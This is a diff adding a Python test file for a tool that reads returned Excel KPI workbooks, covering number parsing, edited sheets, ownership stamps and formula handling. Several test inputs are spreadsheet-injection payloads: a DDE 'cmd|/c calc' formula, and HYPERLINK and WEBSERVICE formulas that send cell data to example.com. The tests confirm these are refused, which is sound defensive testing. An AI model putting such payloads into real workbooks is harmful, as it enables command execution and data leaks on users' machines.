@@ -1,0 +1,478 @@
+"""Returned workbooks: whose they are, what is read out of them, and when nothing is taken."""
+
+from __future__ import annotations
+
+import datetime as dt
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from tests.exchange.sent_books import (
+    PEOPLE,
+    SATO,
+    SUZUKI,
+    TANAKA,
+    Filled,
+    Office,
+    differences,
+    quarter,
+    tag,
+)
+from xl_kpi.errors import BadFile
+from xl_kpi.plan.entries import entries_of
+from xl_kpi.plan.records import Change
+
+CLICKS, SESSIONS = "actual[ads:clicks][2026-05]", "actual[web:sessions][2026-04]"
+ADS, WEB, BACK, AGREED = "広告", "サービスサイト", "逆算", "合意"
+ANSWER = "tbl_agreement[channel:ads]"
+
+
+@pytest.fixture(scope="module")
+def office() -> Office:
+    return Office(quarter()).send()
+
+
+@pytest.fixture
+def book(office) -> Filled:
+    """田中's workbook as it went out."""
+    return office.book(TANAKA)
+
+
+def refusal(office: Office, book: Filled | bytes, lang: str | None = None) -> str:
+    with pytest.raises(BadFile) as error:
+        office.read(book, lang=lang)
+    message = str(error.value)
+    assert message.startswith("返送.xlsx") and "\n" not in message
+    return message
+
+
+# --- what is read -------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("person", PEOPLE, ids=lambda person: person.name)
+@pytest.mark.parametrize("rest", ["visible", "none"])
+def test_an_untouched_workbook_says_nothing(rest, person):
+    office = Office(quarter(), rest=rest).send([person])
+    back = office.read(office.book(person))
+    assert (back.returned.person, back.returned.version) == (person.mail, "1")
+    assert (back.returned.entries, back.faults, back.foreign) == ({}, (), ())
+
+
+@pytest.mark.parametrize(
+    ("typed", "read"),
+    [
+        (1200, 1200),
+        (1200.5, 1200.5),
+        ("１，２００", 1200),
+        ("1,200件", 1200),
+        ("1.2万", 12000),
+        (0, 0),
+        ("", None),
+        ("　", None),
+    ],
+)
+def test_numbers_are_read_as_in_the_plan_itself(office, book, typed, read):
+    back = office.read(book.type({CLICKS: typed}))
+    assert back.returned.entries.get(CLICKS) == read and back.faults == ()
+
+
+def test_a_cleared_cell_is_a_change(office, book):
+    assert office.read(book.type({SESSIONS: None})).returned.entries == {SESSIONS: None}
+
+
+def test_an_answer_with_the_number_that_stood_beside_it(office, book):
+    typed = {"state": "合意", "by": "田中", "on": dt.date(2026, 5, 10), "comment": "承知しました"}
+    back = office.read(book.type({f"{ANSWER}.{column}": value for column, value in typed.items()}))
+    sheet, row, _ = book.place(f"{ANSWER}.state")
+    asked = book.value(sheet, row, 4)  # 計画の数値
+    assert differences(office, back) == {
+        f"{ANSWER}.state": "agreed", f"{ANSWER}.by": "田中", f"{ANSWER}.on": dt.date(2026, 5, 10),
+        f"{ANSWER}.comment": "承知しました", f"{ANSWER}.value": asked,
+    }  # fmt: skip
+
+
+def test_the_stages_of_a_department(office):
+    book = office.book(SATO)
+    key = "actual[stage:opportunities][2026-06]"
+    assert office.read(book.type({key: 7})).returned.entries == {key: 7}
+
+
+def test_an_english_workbook():
+    office = Office(quarter("en")).send([replace(TANAKA, department="Marketing")])
+    book = Filled(office.books[TANAKA.mail]).type({CLICKS: 1200, f"{ANSWER}.state": "Agreed"})
+    said = office.read(book).returned.entries
+    assert said[CLICKS] == 1200 and said[f"{ANSWER}.state"] == "agreed"
+
+
+def test_dates_of_the_1904_system(office, book):
+    """Excel for Mac could count days from 1904: the stored numbers are 1,462 smaller, the dates the same."""
+    properties = book.workbook.find(tag("workbookPr"))
+    if properties is None:
+        properties = book.workbook.makeelement(tag("workbookPr"))
+        book.workbook.insert(0, properties)
+    properties.set("date1904", "1")
+    area = book.area("act_ads")
+    for column in range(area.column, area.last_column + 1):
+        value = book.value(area.sheet, area.row, column)
+        if isinstance(value, float):
+            book.put(area.sheet, area.row, column, value - 1462)
+    with pytest.raises(BadFile, match="サービスサイト"):  # whose headers were left as they were
+        office.read(book)
+    area = book.area("act_web")
+    for name in ("act_web", "act_stages"):
+        area = book.area(name)
+        for column in range(area.column, area.last_column + 1):
+            value = book.value(area.sheet, area.row, column)
+            if isinstance(value, float):
+                book.put(area.sheet, area.row, column, value - 1462)
+    book.put(*_place(book, CLICKS, 1462), 1200)
+    book.type({f"{ANSWER}.state": "合意"}).put(*book.place(f"{ANSWER}.on"), 46152 - 1462)
+    said = office.read(book).returned.entries
+    assert (said[CLICKS], said[f"{ANSWER}.on"]) == (1200, dt.date(2026, 5, 10))  # 46152 is 2026-05-10 from 1900 on
+
+
+def _place(book: Filled, key: str, earlier: int) -> tuple[str, int, int]:
+    """The place of an actual where the headers are that many days smaller."""
+    area = book.area("act_ads")
+    row = book.row_of(area, "clicks:actual")
+    day = (dt.date(2026, 5, 1) - dt.date(1899, 12, 30)).days - earlier
+    return area.sheet, row, next(c for c in range(1, 30) if book.value(area.sheet, area.row, c) == day)
+
+
+def test_headers_that_were_typed_anew_as_text(office, book):
+    area = book.area("act_ads")
+    for column, month in enumerate(("2026/4", "2026年5月", "２０２６年６月"), area.last_column - 2):
+        book.put(area.sheet, area.row, column, month)
+    row = book.row_of(area, "clicks:actual")
+    book.put(area.sheet, row, area.last_column - 1, 1200)
+    assert office.read(book).returned.entries == {CLICKS: 1200}
+
+
+def test_the_readings_beside_japanese_are_no_part_of_a_text(office, book):
+    """Excel keeps how 田中 was typed (たなか) in the same element as the text, and rich text in pieces."""
+    cell = book.put(*book.place(f"{ANSWER}.by"), "")
+    inline = cell.find(tag("is"))
+    inline.clear()
+    for words in ("田", "中"):
+        run = inline.makeelement(tag("r"))
+        run.append(_text("t", words))
+        inline.append(run)
+    reading = inline.makeelement(tag("rPh"), sb="0", eb="2")
+    reading.append(_text("t", "たなか"))
+    inline.append(reading)
+    assert office.read(book).returned.entries[f"{ANSWER}.by"] == "田中"
+
+
+def _text(name: str, words: str) -> Any:
+    from lxml import etree
+
+    element = etree.Element(tag(name))
+    element.text = words
+    return element
+
+
+# --- what people do to a workbook ------------------------------------------------------------------------------
+
+
+def test_inserted_moved_renamed_hidden_and_sorted_things_do_not_matter(office, book):
+    typed = {CLICKS: 1200, SESSIONS: 4800, "actual[ads:cost][2026-06]": 350000, f"{ANSWER}.state": "異議"}
+    book.type(typed)
+    area = book.area("act_ads")
+    book.insert_rows(ADS, 1, 3)  # above the block
+    book.insert_rows(ADS, area.row + 3 + 4, 2)  # inside it
+    book.insert_columns(ADS, 1)  # before the ids
+    book.insert_columns(ADS, 6, 2)  # between the words and the months
+    book.put(ADS, area.row + 3, 6, "メモ")  # a header for what was inserted
+    web = book.area("act_web")
+    book.swap_rows(WEB, book.row_of(web, "sessions:actual"), book.row_of(web, "cv:actual"))
+    agreed = book.area("tbl_agreement")
+    book.swap_rows(AGREED, agreed.row + 1, agreed.last_row)
+    book.rename_sheet(ADS, "うちの広告's").reverse_sheets().hide_all()
+    back = office.read(book)
+    assert {key: back.returned.entries[key] for key in typed} == {**typed, f"{ANSWER}.state": "objected"}
+    assert back.faults == () and back.foreign == ()
+    assert {key for key in back.returned.entries if not key.startswith(ANSWER)} == set(typed) - {f"{ANSWER}.state"}
+
+
+def test_a_sheet_that_was_copied_has_its_names_twice(office, book):
+    """Excel gives the copy names of its own: those of the whole workbook count."""
+    name = book.name("act_ads")
+    copy = name.makeelement(tag("definedName"), name="act_ads", localSheetId="0")
+    copy.text = f"'{WEB}'!$A$1:$B$2"
+    name.addprevious(copy)
+    assert office.read(book.type({CLICKS: 1200})).returned.entries == {CLICKS: 1200}
+
+
+def test_a_row_that_was_copied_with_the_same_values_does_no_harm(office, book):
+    area = book.area("act_ads")
+    row = book.row_of(area, "clicks:actual")
+    book.insert_rows(ADS, row + 1)
+    for column in range(area.column, area.last_column + 1):
+        book.put(ADS, row + 1, column, book.value(ADS, row, column))
+    assert office.read(book).returned.entries == {}
+
+
+# --- what can't be read ----------------------------------------------------------------------------------------
+
+
+def test_a_cell_that_cannot_be_read_is_named_and_all_others_are_taken(office, book):
+    back = office.read(book.type({CLICKS: "千二百くらい", SESSIONS: 4800, "actual[ads:cost][2026-06]": -5}))
+    sheet, row, column = book.place(CLICKS)
+    assert back.returned.entries == {SESSIONS: 4800}
+    assert back.returned.unread == {CLICKS, "actual[ads:cost][2026-06]"}
+    lines = [fault.line() for fault in back.faults]
+    assert lines[0] == "返送.xlsx 広告!H9: 「千二百くらい」 → 数値（例: 1,200）を入力してください（0以上）"
+    assert (sheet, row, column) == (ADS, 9, 8)
+    assert lines[1].startswith("返送.xlsx 広告!I") and "「-5」" in lines[1]
+    assert len(lines) == 2 and {fault.level for fault in back.faults} == {"error"}
+
+
+@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(1)", "＝１", "＋１", "－１", "＠x", "\t=1", "\r=1"])
+def test_text_that_looks_like_a_formula_stays_text(office, book, typed):
+    back = office.read(book.type({f"{ANSWER}.comment": typed}))
+    assert back.returned.entries[f"{ANSWER}.comment"] == typed.strip()
+    assert back.faults == ()
+
+
+@pytest.mark.parametrize("typed", ["=1+1", "@SUM(1)", "＝１", "＠x", "\t=1", "\r=cmd|' /c calc'!A1"])
+def test_and_is_no_number(office, book, typed):
+    back = office.read(book.type({CLICKS: typed}))
+    assert back.returned.entries == {} and back.returned.unread == {CLICKS}
+
+
+@pytest.mark.parametrize(("typed", "number"), [("+5", 5), ("＋５", 5), ("5", 5)])
+def test_a_signed_number_is_one(office, book, typed, number):
+    assert office.read(book.type({CLICKS: typed})).returned.entries == {CLICKS: number}
+
+
+def test_of_a_formula_its_number_is_taken_with_a_warning(office, book):
+    back = office.read(book.formula(CLICKS, "SUM(600,600)", 1200))
+    assert back.returned.entries == {CLICKS: 1200}
+    (fault,) = back.faults
+    assert fault.level == "warning"
+    assert fault.line() == (
+        "返送.xlsx 広告!H9: 「=SUM(600,600)」 → 数式の代わりに、計算結果の 1200 だけを取り込みました"
+    )
+
+
+@pytest.mark.parametrize(
+    ("formula", "result", "kind"),
+    [
+        ('"約1200"', "約1200", "str"),
+        ("1/0", "#DIV/0!", "e"),
+        ("TRUE", "1", "b"),
+        ("A1", None, ""),  # never calculated
+    ],
+)
+def test_a_formula_without_a_number_is_refused(office, book, formula, result, kind):
+    back = office.read(book.formula(CLICKS, formula, result, kind))
+    assert (back.returned.entries, back.returned.unread) == ({}, {CLICKS})
+    assert "数式の結果が数値ではない" in back.faults[0].line()
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "cmd|'/c calc'!A0",
+        "[1]Sheet1!A1",
+        "'C:\\temp\\[other.xlsx]Sheet 1'!$A$1*1",
+        'HYPERLINK("http://example.com/?"&A1,5)',
+        'VALUE(WEBSERVICE("http://example.com"))',
+        'hyperlink ("x",1)',
+        'IMPORTRANGE("x","A1")',
+        "_xlfn.IMAGE(A1)",
+        'RTD("prog.id",,"x")',
+        "CALL(1,2)",
+        "SUM([2]!table,1)",
+    ],
+)
+def test_a_formula_that_reaches_out_is_refused_even_with_a_number(office, book, formula):
+    back = office.read(book.formula(CLICKS, formula, 1200))
+    assert (back.returned.entries, back.returned.unread) == ({}, {CLICKS})
+    assert "ほかのファイルやプログラム、Webを参照する数式" in back.faults[0].line()
+
+
+@pytest.mark.parametrize("formula", ['IF("a|b"="[x]y!",1,2)', "SUM(Table1[clicks])", "SUM(A1,A2)", "MYINFO(1)"])
+def test_a_harmless_formula_is_not_mistaken_for_one(office, book, formula):
+    assert office.read(book.formula(CLICKS, formula, 5)).returned.entries == {CLICKS: 5}
+
+
+def test_a_shared_formula_is_judged_by_the_cell_that_spells_it_out(office, book):
+    sheet, row, column = book.place(CLICKS)
+    first = book.put(sheet, row, column, 5, formula='HYPERLINK("http://example.com",5)')
+    first.find(tag("f")).set("t", "shared")
+    first.find(tag("f")).set("si", "0")
+    second = book.put(sheet, row, column + 1, 5, formula="")
+    second.find(tag("f")).set("t", "shared")
+    second.find(tag("f")).set("si", "0")
+    back = office.read(book)
+    assert back.returned.unread == {CLICKS, "actual[ads:clicks][2026-06]"}
+
+
+@pytest.mark.parametrize("column", ["state", "by", "on", "comment"])
+def test_no_formula_and_no_error_value_in_an_answer(office, book, column):
+    book.type({f"{ANSWER}.state": "合意"})
+    for formula, value, kind in (("1+1", 2, ""), (None, "#N/A", "e"), ('"合意"', "合意", "str")):
+        book.put(*book.place(f"{ANSWER}.{column}"), value, formula=formula, kind=kind)
+        back = office.read(book)
+        assert f"{ANSWER}.state" not in back.returned.entries
+        assert f"{ANSWER}.{column}" in back.returned.unread
+        assert any("数式やエラー値は取り込みません" in fault.line() for fault in back.faults)
+
+
+def test_an_answer_that_is_none_of_the_choices(office, book):
+    back = office.read(book.type({f"{ANSWER}.state": "たぶん"}))
+    assert back.returned.entries == {} and f"{ANSWER}.state" in back.returned.unread
+    assert [fault.line() for fault in back.faults] == [
+        f"返送.xlsx 合意!G{book.place(f'{ANSWER}.state')[1]}: 「たぶん」 → 次から選んでください: 合意 / 異議"
+    ]
+
+
+# --- what was not open --------------------------------------------------------------------------------------
+
+
+def test_what_was_typed_into_cells_of_others_is_listed_and_not_taken(office, book):
+    book.type(
+        {"actual[webinar:attendees][2026-04]": 99, "actual[stage:sql][2026-04]": 13, "actual[stage:sql][2026-05]": "x"}
+    )
+    book.type({"tbl_agreement[stage:sql].state": "異議"})
+    back = office.read(book)
+    assert back.returned.entries == {}
+    found = {cell.key: (cell.value, cell.sent, cell.place.sheet) for cell in back.foreign}
+    assert found == {
+        "actual[webinar:attendees][2026-04]": (99, None, "ウェビナー"),
+        "actual[stage:sql][2026-04]": (13, 12, BACK),
+        "actual[stage:sql][2026-05]": ("x", None, BACK),
+        "tbl_agreement[stage:sql].state": ("objected", None, AGREED),
+    }
+
+
+def test_what_the_master_has_changed_since_is_not_held_against_anybody(office):
+    """Cells of others stand in the file as they were sent, whatever the plan says now."""
+    later = office.plan.with_(actuals={**office.plan.actuals, ("stage:sql", 0): 20.0, ("webinar:attendees", 1): 5.0})
+    now = Office(later, office.records)
+    back = now.read(office.book(TANAKA).type({CLICKS: 1200}))
+    assert (back.returned.entries, back.foreign) == ({CLICKS: 1200}, ())
+    day = dt.datetime(2026, 5, 20)
+    logged = (
+        Change(day, "", "typed", "actual[stage:sql][2026-04]", "SQL", 12.0, 20.0),
+        Change(day, "", "typed", "actual[webinar:attendees][2026-05]", "参加者", None, 5.0),
+    )
+    records = office.records.with_(history=logged, last=entries_of(later))
+    assert Office(later, records).read(office.book(TANAKA)).foreign == ()
+
+
+# --- when the plan has changed since ------------------------------------------------------------------------
+
+
+def since(office: Office, plan: Any) -> Office:
+    """The office after the plan was changed."""
+    return Office(plan, office.records)
+
+
+def test_a_kpi_that_was_added_since_is_not_missed(office, book):
+    kpi = next(one for one in office.plan.kpis if one.channel == "ads" and one.id == "clicks")
+    later = office.plan.with_(kpis=(*office.plan.kpis, replace(kpi, id="views")))
+    assert since(office, later).read(book.type({CLICKS: 1200})).returned.entries == {CLICKS: 1200}
+
+
+def test_what_was_typed_for_a_kpi_that_is_gone_still_counts(office, book):
+    later = office.plan.with_(kpis=tuple(one for one in office.plan.kpis if (one.channel, one.id) != ("ads", "clicks")))
+    back = since(office, later).read(book.type({CLICKS: "1,200", "actual[ads:clicks][2026-06]": "x"}))
+    assert back.returned.entries == {CLICKS: 1200} and len(back.faults) == 1
+
+
+def test_a_channel_that_was_switched_off_since(office, book):
+    channels = tuple(replace(one, on=one.id != "ads") for one in office.plan.channels)
+    back = since(office, office.plan.with_(channels=channels)).read(book.type({CLICKS: 1200}))
+    assert back.returned.entries == {CLICKS: 1200}
+
+
+def test_a_plan_that_was_rolled_forward_since(office, book):
+    later = office.plan.with_(start=dt.date(2026, 7, 1), months=6, actuals={})
+    back = since(office, later).read(book.type({CLICKS: 1200}))
+    assert back.returned.entries == {CLICKS: 1200}
+
+
+# --- keys that are gone ---------------------------------------------------------------------------------------
+
+
+def clear(book: Filled, name: str) -> Filled:
+    area = book.area(name)
+    for row in range(area.row, area.last_row + 1):
+        book.put(area.sheet, row, area.column, None)
+    return book
+
+
+@pytest.mark.parametrize(
+    ("breaking", "words"),
+    [
+        (lambda book: clear(book, "act_ads"), "「広告 › クリック › 実績」の行がありません（act_ads）"),
+        (lambda book: book.drop_name("act_ads"), "「広告」の表がありません（名前 act_ads）"),
+        (lambda book: book.set_name("act_ads", "#REF!"), "「広告」の表がありません（名前 act_ads）"),
+        (lambda book: book.set_name("act_ads", "広告!$A$6:$B$7,広告!$A$9:$B$9"), "「広告」の表がありません"),
+        (lambda book: book.delete_row(ADS, book.place(CLICKS)[1]), "「広告 › クリック › 実績」の行がありません"),
+        (lambda book: book.delete_column(ADS, book.place(CLICKS)[2]), "月の見出しがありません（2026/05 など1か月）"),
+        (lambda book: book.put(ADS, book.area("act_ads").row, book.place(CLICKS)[2], "5月"), "2026/05 など1か月"),
+        (lambda book: clear(book, "tbl_agreement"), "tbl_agreement"),
+        (lambda book: book.drop_name("tbl_agreement"), "「合意」の表がありません（名前 tbl_agreement）"),
+        (lambda book: book.delete_row(AGREED, book.place(f"{ANSWER}.state")[1]), "tbl_agreement"),
+    ],
+)  # fmt: skip
+def test_where_keys_are_gone_nothing_is_taken(office, book, breaking, words):
+    book.type({SESSIONS: 4800})
+    breaking(book)
+    message = refusal(office, book)
+    assert words in message
+
+
+def test_the_same_row_twice_with_different_values(office, book):
+    area = book.area("act_ads")
+    row = book.row_of(area, "clicks:actual")
+    book.insert_rows(ADS, row + 1)
+    for column in range(area.column, area.last_column + 1):
+        book.put(ADS, row + 1, column, book.value(ADS, row, column))
+    book.put(ADS, row + 1, area.last_column, 77)
+    assert "が2か所にあり、値が異なります（広告!I9、広告!I10）" in refusal(office, book)
+
+
+def test_many_lost_things_are_counted(office, book):
+    for name in ("act_ads", "act_web"):
+        clear(book, name)
+    message = refusal(office, book, "en")
+    assert "and 1 more" in message  # 3 typed rows of ads and 3 of web, of which 5 are named
+    assert message.count("the row ") == 5
+
+
+# --- whose it is ---------------------------------------------------------------------------------------------
+
+
+def test_a_workbook_that_was_never_distributed(office):
+    from xl_kpi.build import build
+
+    assert "配布したブックではありません" in refusal(office, build(office.plan, records=office.records))
+
+
+def test_another_plan(office, book):
+    message = refusal(office, book.stamp("sent_plan", "ffff"))
+    assert "別の計画のブックです（計画ID ffff）" in message
+
+
+def test_somebody_else(office, book):
+    assert "宛先 who@example.com には配布していません" in refusal(office, book.stamp("sent_to", "who@example.com"))
+
+
+def test_the_address_in_capitals_is_the_same_person(office, book):
+    assert office.read(book.stamp("sent_to", "Tanaka@Example.COM")).returned.person == TANAKA.mail
+
+
+def test_an_earlier_version_than_the_last_that_the_person_got(office, book):
+    twice = office.send([TANAKA], "2", dt.datetime(2026, 6, 1))
+    assert "第1版です。この宛先の最新は第2版です" in refusal(twice, book)
+    assert twice.read(twice.book(TANAKA)).returned.version == "2"
+    assert twice.read(office.book(SUZUKI)).returned.version == "1", "who was not sent the second answers the first"
+
+
+def test_a_version_that_was_never_sent(office, book):
+    assert "第7版です" in refusal(office, book.stamp("sent_version", "7"))
